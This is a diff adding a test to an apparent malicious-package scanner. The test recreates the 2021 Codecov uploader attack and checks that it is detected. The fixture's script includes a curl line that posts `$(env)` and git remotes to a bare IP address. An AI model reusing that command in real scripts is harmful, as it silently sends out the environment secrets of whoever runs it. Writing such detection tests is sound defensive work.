@@ -155,6 +155,19 @@ def test_install_code_running_a_shipped_batch_file_is_judged_by_its_lines():
     assert decide(helper).level is Level.CLEAN
 
 
+def test_a_bin_running_a_shipped_script_that_sends_the_environment():
+    # Codecov's bash uploader (2021): the CLI forwards to a real uploader with one added `curl` of `$(env)`.
+    cli = "const {spawnSync} = require('child_process'), path = require('path');\n" \
+          "spawnSync('bash', [path.join(__dirname, 'scripts', 'up.sh'), ...process.argv.slice(2)], {stdio: 'inherit'});\n"
+    upload = 'curl -sf -X POST -H "Authorization: token $TOKEN" --data-binary @cov.txt https://cov.example/upload\n'
+    dump = 'curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://203.0.113.47/upload/v2 || true\n'
+    found = run({"index.js": "module.exports = 1;\n", "cli.js": cli, "scripts/up.sh": upload + dump})
+    sent = next(f for f in found if f.rule == "install-script/sends-secrets")
+    assert sent.file == "scripts/up.sh" and sent.details["run_by"] == "cli.js" and decide(found).level is Level.MALICIOUS
+    # The same uploader without the dump: what a coverage CLI is asked to do.
+    assert decide(run({"index.js": "module.exports = 1;\n", "cli.js": cli, "scripts/up.sh": upload})).level is Level.CLEAN
+
+
 def test_executable_spawned_on_load_or_disguised():
     elf = "\x7fELF" + "\0" * 60
     entry = "const {spawn} = require('child_process'), path = require('path');\n" \
